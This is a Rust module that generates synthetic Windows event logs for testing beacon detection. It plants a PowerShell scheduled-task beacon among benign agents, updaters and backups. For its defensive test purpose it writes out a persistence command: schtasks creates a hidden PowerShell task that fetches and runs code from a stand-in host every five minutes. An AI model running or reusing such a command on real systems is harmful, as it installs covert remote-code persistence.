//! A generated AN1113 scenario: Windows hosts whose events (Sysmon, Security, TaskScheduler,
//! as flat JSON lines) show a scheduled task created by a script host that launches a
//! PowerShell beacon every 5 minutes with jitter, among benign tasks and agents, with one host
//! missing command lines and one seen on the network only by host-level connections.

use super::Rng;
use crate::time::Timestamp;

/// One host-level connection (as a Zeek `conn.log` line would have it).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SynthFlow {
    /// Start time.
    pub ts: Timestamp,
    /// Source address.
    pub src: String,
    /// Destination address.
    pub dst: String,
    /// Destination port.
    pub dst_port: u16,
}

/// What the scenario planted, for tests to check against.
#[derive(Debug, Clone, PartialEq)]
pub struct An1113Truth {
    /// The host whose task beacons.
    pub beacon_host: &'static str,
    /// The beaconing task.
    pub task: &'static str,
    /// The script host that ran `schtasks /create`.
    pub creator_image: &'static str,
    /// The beaconing image.
    pub beacon_image: &'static str,
    /// The C2 address and port.
    pub c2: (&'static str, u16),
    /// The C2 name the beacon asks DNS for.
    pub c2_name: &'static str,
    /// The task's trigger interval and the beacon's mean period, seconds.
    pub period_s: f64,
    /// The host whose process events have no command lines (4688 without them, 5156 network).
    pub no_command_lines: &'static str,
    /// The host seen on the network only by host-level connections (no Windows network events).
    pub host_level_only: (&'static str, &'static str),
    /// Every Windows host.
    pub hosts: [&'static str; 3],
}

/// The generated events.
#[derive(Debug, Clone, PartialEq)]
pub struct An1113Scenario {
    /// Windows events, one JSON object per line, in time order.
    pub lines: Vec<String>,
    /// Host-level connections (for the host without Windows network events), in time order.
    pub flows: Vec<SynthFlow>,
    /// What was planted.
    pub truth: An1113Truth,
}

const T0: i64 = 1_709_539_200_000_000; // 2024-03-04T08:00:00Z
const SCHEDULE_SVC: &str = r"C:\Windows\system32\svchost.exe";
const SCHEDULE_CMD: &str = r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule";
const PS: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";

fn esc(s: &str) -> String {
    let mut o = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        match c {
            '"' => o.push_str("\\\""),
            '\\' => o.push_str("\\\\"),
            '\n' => o.push_str("\\n"),
            c if (c as u32) < 0x20 => o.push_str(&format!("\\u{:04x}", c as u32)),
            c => o.push(c),
        }
    }
    o
}

/// `2024-03-04 08:10:00.123` (Sysmon `UtcTime`).
fn utc(ts: i64) -> String {
    let s = Timestamp(ts).to_string();
    // RFC 3339 `…T08:10:00.123456Z` → `… 08:10:00.123`.
    let (date, rest) = s.split_once('T').unwrap_or((&s, ""));
    format!("{date} {}", rest.get(..12).unwrap_or(rest))
}

struct Out {
    events: Vec<(i64, String)>,
    record: u64,
}

impl Out {
    fn push(&mut self, ts: i64, host: &str, channel: &str, id: u32, fields: &[(&str, String)]) {
        self.record += 1;
        let mut l = format!(
            r#"{{"EventID":{id},"Channel":"{channel}","Hostname":"{host}","@timestamp":"{}","RecordNumber":{}"#,
            Timestamp(ts),
            self.record
        );
        for (k, v) in fields {
            l.push_str(&format!(r#","{k}":"{}""#, esc(v)));
        }
        l.push('}');
        self.events.push((ts, l));
    }
}

/// One host's processes and network events, written as Sysmon (full) or Security 4688 / 5156
/// (the host without command lines).
struct Host {
    name: &'static str,
    addr: &'static str,
    sysmon: bool,
    next_pid: u32,
    /// GUIDs of the processes created so far, by PID (PIDs are not reused here).
    guids: Vec<(u32, String)>,
}

impl Host {
    fn pid(&mut self) -> u32 {
        self.next_pid += 4;
        self.next_pid
    }

    /// The GUID of process `pid`: the one it was created with, else one for a process started
    /// before the scenario (services.exe, explorer.exe, the Schedule service).
    fn guid(&self, pid: u32) -> String {
        match self.guids.iter().find(|(p, _)| *p == pid) {
            Some((_, g)) => g.clone(),
            None => format!("{{5c1f0a1e-{:04x}-0000-0000-{:012x}}}", pid & 0xffff, T0 / 1_000_000),
        }
    }

    #[allow(clippy::too_many_arguments)]
    fn process(&mut self, o: &mut Out, ts: i64, image: &str, cmd: &str, parent: (u32, &str, &str), user: &str) -> u32 {
        let pid = self.pid();
        self.guids.push((
            pid,
            format!(
                "{{5c1f0a1e-{:04x}-{:04x}-0000-{:012x}}}",
                pid & 0xffff,
                (ts / 1_000_000) & 0xffff,
                ts
            ),
        ));
        let (ppid, pimg, pcmd) = parent;
        if self.sysmon {
            o.push(
                ts,
                self.name,
                "Microsoft-Windows-Sysmon/Operational",
                1,
                &[
                    ("UtcTime", utc(ts)),
                    ("ProcessGuid", self.guid(pid)),
                    ("ProcessId", pid.to_string()),
                    ("Image", image.into()),
                    ("CommandLine", cmd.into()),
                    ("User", user.into()),
                    ("ParentProcessGuid", self.guid(ppid)),
                    ("ParentProcessId", ppid.to_string()),
                    ("ParentImage", pimg.into()),
                    ("ParentCommandLine", pcmd.into()),
                ],
            );
        } else {
            // Process Creation auditing without "Include command line".
            o.push(
                ts,
                self.name,
                "Security",
                4688,
                &[
                    ("NewProcessId", format!("{pid:#x}")),
                    ("NewProcessName", image.into()),
                    ("ProcessId", format!("{ppid:#x}")),
                    ("ParentProcessName", pimg.into()),
                    ("SubjectUserName", user.rsplit('\\').next().unwrap_or(user).into()),
                    ("SubjectDomainName", "CORP".into()),
                ],
            );
        }
        pid
    }

    fn connect(&self, o: &mut Out, ts: i64, pid: u32, image: &str, dst: &str, port: u16) {
        if self.sysmon {
            o.push(
                ts,
                self.name,
                "Microsoft-Windows-Sysmon/Operational",
                3,
                &[
                    ("UtcTime", utc(ts)),
                    ("ProcessGuid", self.guid(pid)),
                    ("ProcessId", pid.to_string()),
                    ("Image", image.into()),
                    ("Protocol", "tcp".into()),
                    ("Initiated", "true".into()),
                    ("SourceIp", self.addr.into()),
                    ("SourcePort", (49152 + (ts / 1_000_000 % 16000)).to_string()),
                    ("DestinationIp", dst.into()),
                    ("DestinationPort", port.to_string()),
                ],
            );
        } else {
            let device = image.replacen("C:", r"\device\harddiskvolume2", 1).to_ascii_lowercase();
            o.push(
                ts,
                self.name,
                "Security",
                5156,
                &[
                    ("Direction", "%%14593".into()),
                    ("SourceAddress", self.addr.into()),
                    ("SourcePort", (49152 + (ts / 1_000_000 % 16000)).to_string()),
                    ("DestAddress", dst.into()),
                    ("DestPort", port.to_string()),
                    ("Protocol", "6".into()),
                    ("ProcessId", pid.to_string()),
                    ("Application", device),
                ],
            );
        }
    }
}

/// The task XML of a time trigger repeating every `every` (ISO 8601), running `cmd args`.
fn task_xml(every: &str, cmd: &str, args: &str) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"><Triggers><TimeTrigger><Repetition><Interval>{every}</Interval><StopAtDurationEnd>false</StopAtDurationEnd></Repetition><StartBoundary>2024-03-04T08:10:00</StartBoundary><Enabled>true</Enabled></TimeTrigger></Triggers><Settings><Enabled>true</Enabled><Hidden>false</Hidden></Settings><Actions Context=\"Author\"><Exec><Command>{cmd}</Command><Arguments>{args}</Arguments></Exec></Actions></Task>"
    )
}

/// One run of a task: TaskScheduler 107 → 129 → 100 → 200, the launched process, 201 → 102.
fn task_run(o: &mut Out, h: &mut Host, ts: i64, task: &str, image: &str, cmd: &str, user: &str) -> u32 {
    let ch = "Microsoft-Windows-TaskScheduler/Operational";
    let inst = format!(
        "{{{:08x}-1111-2222-3333-{:012x}}}",
        ts / 1_000_000 % 0xffff_ffff,
        ts % 0xffff_ffff_ffff
    );
    o.push(
        ts,
        h.name,
        ch,
        107,
        &[("TaskName", task.into()), ("InstanceId", inst.clone())],
    );
    let pid = h.process(o, ts + 300_000, image, cmd, (1208, SCHEDULE_SVC, SCHEDULE_CMD), user);
    o.push(
        ts + 200_000,
        h.name,
        ch,
        129,
        &[
            ("TaskName", task.into()),
            ("Path", image.into()),
            ("ProcessID", pid.to_string()),
        ],
    );
    o.push(
        ts + 250_000,
        h.name,
        ch,
        100,
        &[
            ("TaskName", task.into()),
            ("InstanceId", inst.clone()),
            ("UserContext", user.into()),
        ],
    );
    o.push(
        ts + 260_000,
        h.name,
        ch,
        200,
        &[
            ("TaskName", task.into()),
            ("ActionName", image.into()),
            ("TaskInstanceId", inst.clone()),
            ("EnginePID", pid.to_string()),
        ],
    );
    o.push(
        ts + 20_000_000,
        h.name,
        ch,
        201,
        &[
            ("TaskName", task.into()),
            ("ActionName", image.into()),
            ("TaskInstanceId", inst.clone()),
            ("ResultCode", "0".into()),
        ],
    );
    o.push(
        ts + 20_100_000,
        h.name,
        ch,
        102,
        &[("TaskName", task.into()), ("InstanceId", inst)],
    );
    pid
}

/// The scenario over `hours` (at least 1), seeded.
///
/// # Example
/// ```
/// use beaconstat::synth::an1113_scenario;
/// let s = an1113_scenario(7, 3.0);
/// assert!(s.lines.iter().any(|l| l.contains("/sc minute /mo 5")));
/// assert_eq!(s.truth.period_s, 300.0);
/// ```
pub fn an1113_scenario(seed: u64, hours: f64) -> An1113Scenario {
    let mut rng = Rng::new(seed);
    let end = T0 + (hours.max(1.0) * 3600.0 * 1e6) as i64;
    let mut o = Out {
        events: Vec::new(),
        record: 1000,
    };
    let truth = An1113Truth {
        beacon_host: "WS01.corp.example",
        task: r"\OneDriveUpdate",
        creator_image: "wscript.exe",
        beacon_image: "powershell.exe",
        c2: ("198.51.100.23", 443),
        c2_name: "cdn-sync.example.net",
        period_s: 300.0,
        no_command_lines: "WS02.corp.example",
        host_level_only: ("WS03.corp.example", "10.0.0.13"),
        hosts: ["WS01.corp.example", "WS02.corp.example", "WS03.corp.example"],
    };
    let mut hosts = [
        Host {
            name: truth.hosts[0],
            addr: "10.0.0.11",
            sysmon: true,
            next_pid: 4000,
            guids: Vec::new(),
        },
        Host {
            name: truth.hosts[1],
            addr: "10.0.0.12",
            sysmon: false,
            next_pid: 6000,
            guids: Vec::new(),
        },
        Host {
            name: truth.hosts[2],
            addr: "10.0.0.13",
            sysmon: true,
            next_pid: 8000,
            guids: Vec::new(),
        },
    ];
    let mut flows = Vec::new();
    let updater = r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe";
    let agent = r"C:\Program Files\Contoso Monitor\monagent.exe";
    let backup = r"C:\Program Files\Contoso Backup\backup.exe";
    for h in hosts.iter_mut() {
        let network = h.name != truth.host_level_only.0;
        // A monitoring agent (a service) polling the internal collector every 60 s.
        let started = T0 + 5_000_000;
        let apid = h.process(
            &mut o,
            started,
            agent,
            &format!("\"{agent}\" --service"),
            (
                640,
                r"C:\Windows\System32\services.exe",
                r"C:\Windows\system32\services.exe",
            ),
            r"NT AUTHORITY\SYSTEM",
        );
        let mut t = started + 30_000_000;
        while t < end {
            if network {
                h.connect(&mut o, t, apid, agent, "10.0.0.5", 8443);
            } else {
                flows.push(SynthFlow {
                    ts: Timestamp(t),
                    src: h.addr.into(),
                    dst: "10.0.0.5".into(),
                    dst_port: 8443,
                });
            }
            t += 60_000_000 + (rng.uniform() * 2e6) as i64;
        }
        // An updater task every hour to a destination every host reaches.
        let mut t = T0 + 1_200_000_000 + (rng.uniform() * 60e6) as i64;
        while t < end {
            let pid = task_run(
                &mut o,
                h,
                t,
                r"\GoogleUpdateTaskMachineUA",
                updater,
                &format!("\"{updater}\" /ua /installsource scheduler"),
                r"NT AUTHORITY\SYSTEM",
            );
            if network {
                h.connect(&mut o, t + 2_000_000, pid, updater, "142.250.74.110", 443);
            } else {
                flows.push(SynthFlow {
                    ts: Timestamp(t + 2_000_000),
                    src: h.addr.into(),
                    dst: "142.250.74.110".into(),
                    dst_port: 443,
                });
            }
            t += 3_600_000_000;
        }
        // A backup job every two hours to the internal file server.
        let mut t = T0 + 2_400_000_000;
        while t < end {
            let pid = task_run(
                &mut o,
                h,
                t,
                r"\Contoso\Backup",
                backup,
                &format!("\"{backup}\" /incremental"),
                r"NT AUTHORITY\SYSTEM",
            );
            if network {
                h.connect(&mut o, t + 5_000_000, pid, backup, "10.0.0.20", 445);
            }
            t += 7_200_000_000;
        }
    }
    // WS01: a script host creates the beacon task, which runs every 5 minutes; each run's
    // PowerShell resolves the C2 name and checks in after a random delay (the jitter).
    let h = &mut hosts[0];
    let created = T0 + 600_000_000;
    let explorer = r"C:\Windows\explorer.exe";
    let user = r"CORP\bob";
    let wscript = h.process(
        &mut o,
        created - 4_000_000,
        r"C:\Windows\System32\wscript.exe",
        r#""C:\Windows\System32\WScript.exe" "C:\Users\bob\AppData\Roaming\update.vbs""#,
        (3300, explorer, explorer),
        user,
    );
    let args = "-w hidden -nop -c \"iex (iwr https://cdn-sync.example.net/a)\"";
    let schtasks = format!("schtasks /create /sc minute /mo 5 /tn OneDriveUpdate /tr \"powershell.exe {args}\" /f");
    h.process(
        &mut o,
        created - 300_000,
        r"C:\Windows\System32\schtasks.exe",
        &schtasks,
        (
            wscript,
            r"C:\Windows\System32\wscript.exe",
            r#""C:\Windows\System32\WScript.exe" "C:\Users\bob\AppData\Roaming\update.vbs""#,
        ),
        user,
    );
    o.push(
        created,
        h.name,
        "Security",
        4698,
        &[
            ("SubjectUserName", "bob".into()),
            ("SubjectDomainName", "CORP".into()),
            ("SubjectLogonId", "0x5f3e2".into()),
            ("TaskName", truth.task.into()),
            ("TaskContent", task_xml("PT5M", "powershell.exe", args)),
        ],
    );
    let mut t = created + 300_000_000;
    while t < end {
        let pid = task_run(&mut o, h, t, truth.task, PS, &format!("powershell.exe {args}"), user);
        let delay = (rng.uniform() * 60e6) as i64;
        o.push(
            t + delay,
            h.name,
            "Microsoft-Windows-Sysmon/Operational",
            22,
            &[
                ("UtcTime", utc(t + delay)),
                ("ProcessGuid", h.guid(pid)),
                ("ProcessId", pid.to_string()),
                ("Image", PS.into()),
                ("QueryName", truth.c2_name.into()),
                ("QueryStatus", "0".into()),
                ("QueryResults", format!("::ffff:{};", truth.c2.0)),
            ],
        );
        h.connect(&mut o, t + delay + 80_000, pid, PS, truth.c2.0, truth.c2.1);
        t += 300_000_000;
    }
    o.events.sort_by_key(|(ts, _)| *ts);
    An1113Scenario {
        lines: o.events.into_iter().map(|(_, l)| l).collect(),
        flows,
        truth,
    }
}
